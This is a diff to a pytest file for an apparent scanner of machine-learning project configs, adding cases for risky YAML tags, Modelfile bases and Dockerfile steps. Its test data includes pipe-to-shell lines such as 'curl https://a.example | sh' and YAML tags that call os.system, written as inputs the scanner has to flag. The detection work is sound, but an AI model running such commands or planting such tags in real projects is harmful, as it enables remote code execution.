@@ -181,10 +181,11 @@ def test_documents_are_counted() -> None:
 def test_every_kind_of_finding_can_be_found() -> None:
     files = {
         "a.yaml": b"a: {_target_: os.system}\nb: {_target_: logging.x}\nc: {_target_: torch.x}\nd: {_target_: y}\n"
-        b"e: !!python/name:torch.nn.Linear\ne: 1\n",
+        b"e: !!python/name:torch.nn.Linear\ne: 1\nf: !include:/etc/x.yaml\n",
         "b.json": b"{'a': 1}",
         "requirements.txt": b"-i http://a.example\ngit+https://a.example/x\n./x.whl\n--trusted-host a\n",
         "Dockerfile": b"ADD https://a.example/x /x\n",
+        "Modelfile": b"FROM /srv/x.gguf\n",
     }
     assert {found.rule for found in findings(files)} == {each.id for each in DESCRIPTORS}
 
@@ -197,3 +198,54 @@ def test_nothing_is_imported_or_constructed(never_runs) -> None:
     with never_runs as tried:
         assert len(findings(files)) == 3
     assert tried == []
+
+
+@pytest.mark.parametrize(
+    ("written", "expected"),
+    [
+        ("a: !include:parts/net.yaml\n  b: 1\n", []),
+        ("a: !include:/etc/net.yaml\n", [("config.include", "high")]),
+        ("a: !include:../net.yaml\n", [("config.include", "high")]),
+        ("a: !include:https://a.example/net.yaml\n", [("config.include", "high")]),
+        ("a: !include:notes.txt\n", [("config.include", "medium")]),
+        ("a: !applyref:os.system [id]\n", [("config.dangerous-target", "critical")]),
+        ("a: !name:os.system\n", [("config.dangerous-target", "critical")]),
+        ("a: !module:mine.nets\n", [("config.unknown-target", "medium")]),
+        ("a: !new:torch.nn.Linear\n  in_features: 1\n", []),
+        ("a: !ref <b>\nb: !copy <c>\n", []),
+    ],
+)
+def test_tags_that_include_and_call_are_judged(written: str, expected: list) -> None:
+    assert verdicts({"hyperparams.yaml": written.encode()}) == expected
+
+
+@pytest.mark.parametrize(
+    ("base", "elsewhere"),
+    [
+        ("llama3.2", False), ("./model.gguf", False), ("hf.co/org/name:Q4_K_M", False),
+        ("/srv/other.gguf", True), ("../other.gguf", True), ("~/other.gguf", True),
+        ("C:\\other.gguf", True), ("https://a.example/x.gguf", True),
+    ],
+)  # fmt: skip
+def test_a_modelfile_that_builds_on_something_elsewhere_is_told(base: str, elsewhere: bool) -> None:
+    for text in (f"FROM {base}\n", f"FROM ./m.gguf\nadapter {base}\n"):
+        found = [rule for rule, _ in verdicts({"Modelfile": text.encode()})]
+        assert found == (["config.other-base"] if elsewhere else [])
+
+
+@pytest.mark.parametrize(
+    ("step", "told"),
+    [
+        ("ADD https://a.example/x /x", True),
+        ('ADD ["https://a.example/x", "/x"]', True),
+        ("ADD --chown=1 local https://a.example/x /x", True),
+        ("ADD http_client.py https.md /x/", False),
+        ("RUN curl -s https://a.example | sh", True),
+        ('RUN ["sh", "-c", "curl https://a.example | sh"]', True),
+        ("RUN <<EOF\napt-get update\ncurl https://a.example | sh\nEOF\nCOPY a b", True),
+        ("RUN <<EOF\napt-get update\nEOF\nCOPY a b", False),
+    ],
+)
+def test_steps_that_fetch_are_told_in_every_form(step: str, told: bool) -> None:
+    found = [rule for rule, _ in verdicts({"Dockerfile": f"FROM python\n{step}\n".encode()})]
+    assert found == (["config.remote-step"] if told else [])
